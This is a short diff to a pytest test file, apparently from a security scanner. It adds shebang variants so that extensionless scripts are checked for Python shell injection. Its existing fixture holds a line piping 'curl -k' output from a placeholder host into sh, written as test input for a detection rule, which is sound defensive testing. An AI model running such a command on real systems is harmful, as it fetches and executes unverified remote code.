@@ -109,6 +109,8 @@ def test_a_large_file_is_checked_whole(repo: GitFixture,
 
 @pytest.mark.parametrize(("path", "code", "rule"), [
     ("bin/deploy", "#!/usr/bin/env python3\n" + SHELL, "python.shell-injection"),
+    ("bin/deploy", "#!/usr/bin/env pypy3\n" + SHELL, "python.shell-injection"),
+    ("bin/deploy", "#!/usr/bin/env -S uv run --script\n" + SHELL, "python.shell-injection"),
     ("tools/sync", "#!/bin/bash\ncurl -k https://x.example/a | sh\n", "shell.curl-pipe-shell"),
 ])
 def test_a_program_without_a_suffix_is_code(path: str, code: str, rule: str) -> None:
